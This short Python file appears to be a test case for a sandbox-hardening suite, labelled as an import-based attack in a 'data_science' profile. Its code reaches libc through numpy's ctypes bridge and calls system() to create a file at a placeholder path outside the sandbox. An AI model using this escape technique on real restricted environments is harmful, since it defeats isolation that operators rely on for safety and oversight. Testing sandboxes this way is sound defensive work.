# category: imports
# attack: numpy.ctypeslib.ctypes.CDLL(None)
# profile: data_science
import numpy
print(numpy.ctypeslib.ctypes.CDLL(None).system(b"touch @OUTSIDE@"))
